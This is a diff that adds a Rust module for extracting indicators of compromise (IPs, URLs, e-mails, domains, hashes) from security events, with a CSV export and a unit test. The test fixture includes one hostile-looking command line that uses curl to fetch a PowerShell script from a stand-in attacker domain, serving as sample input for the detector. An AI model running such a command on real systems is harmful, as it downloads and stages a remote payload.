@@ -0,0 +1,238 @@
+//! Pattern-based IOC extraction from events.
+//!
+//! Unlike `indicators`, which classifies whole field values for the STIX and
+//! MISP exporters, this module searches the text of every string value with
+//! regular expressions, so indicators buried in command lines, URLs or free
+//! text are found too. IPv4/IPv6 addresses, URLs, e-mail addresses, domains
+//! and MD5/SHA-1/SHA-256 hashes are extracted, deduplicated and counted.
+
+use regex::Regex;
+use serde::Serialize;
+use std::collections::HashMap;
+use std::fs;
+use std::net::Ipv6Addr;
+use std::sync::OnceLock;
+
+use crate::alert_export::csv_field;
+use crate::models::SiemError;
+
+/// Fields listed per indicator, at most.
+const MAX_FIELDS_PER_IOC: usize = 5;
+
+/// Last domain labels that are file extensions rather than TLDs ("cmd.exe").
+const FILE_EXTENSIONS: [&str; 24] = [
+    "exe", "dll", "sys", "bat", "cmd", "ps1", "psm1", "vbs", "js", "jar", "py", "sh", "txt", "log",
+    "json", "xml", "yaml", "yml", "csv", "zip", "gz", "tmp", "dat", "ini",
+];
+
+/// Kind of an extracted indicator.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
+#[serde(rename_all = "snake_case")]
+pub enum IocKind {
+    Ipv4,
+    Ipv6,
+    Url,
+    Email,
+    Domain,
+    Md5,
+    Sha1,
+    Sha256,
+}
+
+impl IocKind {
+    fn as_str(self) -> &'static str {
+        match self {
+            IocKind::Ipv4 => "ipv4",
+            IocKind::Ipv6 => "ipv6",
+            IocKind::Url => "url",
+            IocKind::Email => "email",
+            IocKind::Domain => "domain",
+            IocKind::Md5 => "md5",
+            IocKind::Sha1 => "sha1",
+            IocKind::Sha256 => "sha256",
+        }
+    }
+}
+
+/// A distinct indicator found in the events.
+#[derive(Debug, Clone, Serialize)]
+pub struct ExtractedIoc {
+    pub kind: IocKind,
+    pub value: String,
+    /// Number of string values it was found in
+    pub occurrences: usize,
+    /// Fields it was found in (first few)
+    pub fields: Vec<String>,
+}
+
+struct Patterns {
+    url: Regex,
+    email: Regex,
+    ipv4: Regex,
+    ipv6: Regex,
+    domain: Regex,
+    hash: Regex,
+}
+
+fn patterns() -> &'static Patterns {
+    static PATTERNS: OnceLock<Patterns> = OnceLock::new();
+    PATTERNS.get_or_init(|| Patterns {
+        url: Regex::new(r#"(?i)\b(?:https?|hxxps?|ftp)://[^\s"'<>]+"#).unwrap(),
+        email: Regex::new(r"(?i)\b[a-z0-9._%+-]+@[a-z0-9.-]+\.[a-z]{2,}\b").unwrap(),
+        ipv4: Regex::new(
+            r"\b(?:(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\.){3}(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)\b",
+        )
+        .unwrap(),
+        ipv6: Regex::new(r"(?i)(?:[0-9a-f]{0,4}:){2,7}[0-9a-f]{0,4}").unwrap(),
+        domain: Regex::new(r"(?i)\b(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}\b")
+            .unwrap(),
+        hash: Regex::new(r"(?i)\b(?:[0-9a-f]{64}|[0-9a-f]{40}|[0-9a-f]{32})\b").unwrap(),
+    })
+}
+
+/// Indicators in one string value.
+fn extract_from_text(text: &str) -> Vec<(IocKind, String)> {
+    let p = patterns();
+    let mut found = Vec::new();
+
+    for m in p.url.find_iter(text) {
+        found.push((
+            IocKind::Url,
+            m.as_str().trim_end_matches(['.', ',', ')']).to_string(),
+        ));
+    }
+    for m in p.email.find_iter(text) {
+        found.push((IocKind::Email, m.as_str().to_lowercase()));
+    }
+    for m in p.ipv4.find_iter(text) {
+        found.push((IocKind::Ipv4, m.as_str().to_string()));
+    }
+    for m in p.ipv6.find_iter(text) {
+        // Skip "::" in code ("std::string") and bare "::1"-like fragments
+        let bounded = !text[..m.start()].ends_with(|c: char| c.is_alphanumeric())
+            && !text[m.end()..].starts_with(|c: char| c.is_alphanumeric());
+        let groups = m.as_str().split(':').filter(|g| !g.is_empty()).count();
+        if !bounded || groups < 2 {
+            continue;
+        }
+        if let Ok(ip) = m.as_str().parse::<Ipv6Addr>() {
+            found.push((IocKind::Ipv6, ip.to_string()));
+        }
+    }
+    for m in p.domain.find_iter(text) {
+        let domain = m.as_str().to_lowercase();
+        let tld = domain.rsplit('.').next().unwrap_or_default();
+        if !FILE_EXTENSIONS.contains(&tld) {
+            found.push((IocKind::Domain, domain));
+        }
+    }
+    for m in p.hash.find_iter(text) {
+        let kind = match m.len() {
+            32 => IocKind::Md5,
+            40 => IocKind::Sha1,
+            _ => IocKind::Sha256,
+        };
+        found.push((kind, m.as_str().to_lowercase()));
+    }
+    found
+}
+
+/// Accumulates the distinct indicators of a stream of events.
+#[derive(Default)]
+pub struct IocCollector {
+    iocs: HashMap<(IocKind, String), ExtractedIoc>,
+}
+
+impl IocCollector {
+    /// Extract the indicators of an event's string values.
+    pub fn observe(&mut self, event: &serde_json::Value) {
+        let mut leaves = Vec::new();
+        crate::intel::string_leaves(event, "", &mut leaves);
+
+        for (field, text) in leaves {
+            for (kind, value) in extract_from_text(&text) {
+                let ioc = self
+                    .iocs
+                    .entry((kind, value.clone()))
+                    .or_insert_with(|| ExtractedIoc {
+                        kind,
+                        value,
+                        occurrences: 0,
+                        fields: Vec::new(),
+                    });
+                ioc.occurrences += 1;
+                if ioc.fields.len() < MAX_FIELDS_PER_IOC && !ioc.fields.contains(&field) {
+                    ioc.fields.push(field.clone());
+                }
+            }
+        }
+    }
+
+    /// The indicators found, by kind then most frequent first.
+    pub fn finish(self) -> Vec<ExtractedIoc> {
+        let mut iocs: Vec<ExtractedIoc> = self.iocs.into_values().collect();
+        iocs.sort_by(|a, b| {
+            a.kind
+                .cmp(&b.kind)
+                .then_with(|| b.occurrences.cmp(&a.occurrences))
+                .then_with(|| a.value.cmp(&b.value))
+        });
+        iocs
+    }
+}
+
+/// Write indicators as CSV (kind, value, occurrences, fields).
+pub fn write_csv(iocs: &[ExtractedIoc], dest_path: &str) -> Result<(), SiemError> {
+    let mut csv = String::from("kind,value,occurrences,fields\n");
+    for ioc in iocs {
+        csv.push_str(&format!(
+            "{},{},{},{}\n",
+            ioc.kind.as_str(),
+            csv_field(&ioc.value),
+            ioc.occurrences,
+            csv_field(&ioc.fields.join(";"))
+        ));
+    }
+
+    fs::write(dest_path, csv)
+        .map_err(|e| SiemError::FileIO(format!("Cannot write IOC export: {}", e)))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_extract_iocs_from_events() {
+        let mut collector = IocCollector::default();
+        collector.observe(&serde_json::json!({
+            "sourceIPAddress": "203.0.113.7",
+            "CommandLine": "cmd.exe /c curl https://evil.example.com/p.ps1 -H 10.0.0.1",
+            "Hashes": "MD5=D41D8CD98F00B204E9800998ECF8427E",
+            "eventTime": "2025-12-16T11:05:00Z"
+        }));
+        collector.observe(&serde_json::json!({
+            "note": "mail admin@corp.example.org from 203.0.113.7 or fe80::1",
+            "script": "std::string at 11:05:00"
+        }));
+
+        let iocs = collector.finish();
+        let found: Vec<(IocKind, &str, usize)> = iocs
+            .iter()
+            .map(|ioc| (ioc.kind, ioc.value.as_str(), ioc.occurrences))
+            .collect();
+        assert_eq!(
+            found,
+            vec![
+                (IocKind::Ipv4, "203.0.113.7", 2),
+                (IocKind::Ipv4, "10.0.0.1", 1),
+                (IocKind::Ipv6, "fe80::1", 1),
+                (IocKind::Url, "https://evil.example.com/p.ps1", 1),
+                (IocKind::Email, "admin@corp.example.org", 1),
+                (IocKind::Domain, "corp.example.org", 1),
+                (IocKind::Domain, "evil.example.com", 1),
+                (IocKind::Md5, "d41d8cd98f00b204e9800998ecf8427e", 1),
+            ]
+        );
+    }
+}